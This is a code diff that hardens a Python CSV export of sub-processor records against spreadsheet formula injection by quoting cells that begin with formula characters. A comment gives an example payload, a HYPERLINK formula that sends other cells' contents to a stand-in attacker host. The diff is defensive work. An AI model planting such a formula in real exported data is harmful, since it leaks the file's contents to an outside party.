@@ -112,11 +112,23 @@ def csv_row(entry: SubprocessorEntry, languages: list[str]) -> dict[str, str]:
     }
 
 
+# A cell a spreadsheet would read as a formula (=HYPERLINK("https://evil.example/?"&A1, ...) in a name sends
+# other cells to another host when the file is opened): OWASP "CSV Injection" lists these first characters
+# and recommends a leading single quote, which spreadsheets show as text and do not evaluate.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_cell(value: str) -> str:
+    """The cell as text a spreadsheet never evaluates: a leading ' before a formula's first character."""
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
 def subprocessors_csv(export: SubprocessorsExport) -> str:
-    """RFC 4180 CSV (UTF-8, CRLF line ends), one row per sub-processor, in the JSON's order."""
+    """RFC 4180 CSV (UTF-8, CRLF line ends), one row per sub-processor, in the JSON's order; no cell starts
+    like a formula (neutralise_cell). The JSON export keeps every value as it is."""
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=csv_columns(export.languages), lineterminator="\r\n")
     writer.writeheader()
     for entry in export.subprocessors:
-        writer.writerow(csv_row(entry, export.languages))
+        writer.writerow({key: neutralise_cell(value) for key, value in csv_row(entry, export.languages).items()})
     return buffer.getvalue()
